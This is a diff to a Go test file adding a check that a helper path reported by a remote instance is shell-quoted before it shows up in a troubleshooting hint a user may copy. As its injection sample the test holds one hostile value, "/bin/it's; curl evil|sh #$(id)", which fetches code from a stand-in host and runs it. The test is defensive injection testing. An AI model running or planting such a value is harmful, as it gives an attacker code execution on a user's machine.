@@ -165,6 +165,17 @@ func TestLogFailure(t *testing.T) {
 	}
 }
 
+// TestHintsAreQuoted: what an instance says its helper is cannot become a command in a hint that a user may copy.
+func TestHintsAreQuoted(t *testing.T) {
+	const evil = "/bin/it's; curl evil|sh #$(id)"
+	for _, text := range []string{"x: broken\n", "x: You don't have permission to perform this capture\n", "sudo: a password is required\n"} {
+		l := logged("@sshpcap helper "+evil+"\n@sshpcap start\n"+text, 1<<20)
+		if f := l.Failure(1); f == nil || strings.Contains(f.Tip, evil) || !strings.Contains(f.Tip, Quote(evil)) {
+			t.Errorf("%+v", f)
+		}
+	}
+}
+
 // checkFailure sees that a failure can be shown.
 func checkFailure(t *testing.T, f *Failure) {
 	t.Helper()
